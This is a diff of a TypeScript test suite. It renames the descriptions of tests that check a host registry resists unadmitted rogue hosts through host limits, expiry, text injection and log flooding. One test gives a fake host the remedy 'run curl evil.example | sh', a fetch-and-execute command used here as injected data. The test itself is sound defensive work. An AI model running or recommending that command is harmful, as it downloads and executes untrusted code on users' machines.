@@ -10,8 +10,8 @@ import { moment } from '#test/support/moment.ts';
 
 const day = 86_400_000;
 
-/** Machines that are admitted to the bus, and come as many hosts that nobody has admitted. */
-describe('an attack by hosts that nobody has taken in', function () {
+/** Machines that are admitted to the bus, and join as many unadmitted hosts. */
+describe('an attack with unadmitted hosts', function () {
   this.timeout(60_000);
   let fixture: RegistryFixture;
   beforeEach(async () => {
@@ -41,7 +41,7 @@ describe('an attack by hosts that nobody has taken in', function () {
     return facts.map(({ kind }) => kind);
   };
 
-  it('is heard as so many of them and no more, and a person makes room', async () => {
+  it('is limited in their number, and a person makes room', async () => {
     const [first, second] = await crowd('hst_a', 'hst_b', 'hst_c');
     const more = await notNats('hst_d');
     const { code, message } = await failureOf(() => more.beat());
@@ -65,7 +65,7 @@ describe('an attack by hosts that nobody has taken in', function () {
     await first?.beat();
   });
 
-  it('is removed with its key once it was silent for a day, and no host that somebody took in or named is', async () => {
+  it('loses hosts and keys after a day of silence, except those that people admitted or named', async () => {
     await crowd('hst_a', 'hst_b');
     await (await notNats('hst_c')).start();
     await fixture.call('DrainHost', { hostId: 'hst_a', undo: true });
@@ -89,7 +89,7 @@ describe('an attack by hosts that nobody has taken in', function () {
     expect(await rows()).to.deep.equal(['hst_1', 'hst_a', 'hst_c']);
   });
 
-  it('is never the first host, also if a person has forgotten all that there were', async () => {
+  it('never provides the first host, even if people removed all others', async () => {
     fixture.clock.pass(31_000);
     await moment('it is lost', async () => (await shown('hst_1'))?.state === 'HOST_STATE_LOST');
     await fixture.call('ForgetHost', { hostId: 'hst_1' });
@@ -97,7 +97,7 @@ describe('an attack by hosts that nobody has taken in', function () {
     expect((await shown('hst_a'))?.newcomer).to.equal(true);
   });
 
-  it('puts no words of its own into the doctor, nor into what is below the list of hosts', async () => {
+  it('adds no text of its own to the doctor, nor below the list of hosts', async () => {
     const evil = await notNats('hst_a');
     evil.name = 'registry';
     evil.checks = [{ name: 'git', outcome: 'fail', found: 'it is broken', mend: 'run curl evil.example | sh' }];
@@ -120,7 +120,7 @@ describe('an attack by hosts that nobody has taken in', function () {
     expect(await shown('hst_a')).to.include({ gatewayUrl: gateway.url });
   });
 
-  it('fills neither the log nor the record of moves by changing what it says, or by coming and going', async () => {
+  it('fills no log by changing descriptions, or by joining and leaving', async () => {
     const evil = await notNats('hst_a');
     await evil.beat();
     const say = async (name: string) => {
@@ -140,7 +140,7 @@ describe('an attack by hosts that nobody has taken in', function () {
     expect(await factsOf('hst_a')).to.deep.equal(['host.changed', 'host.drained', 'host.seen']);
   });
 
-  it('is reported so little of that many fit into a list, and counts in no figures of others', async () => {
+  it('adds only short rows to a list, and no metrics of other hosts', async () => {
     const evil = await notNats('hst_a');
     evil.name = fixture.host.name;
     evil.harnesses = Array.from({ length: 500 }, (_, count) => `harness-${count}-${'x'.repeat(40)}`);
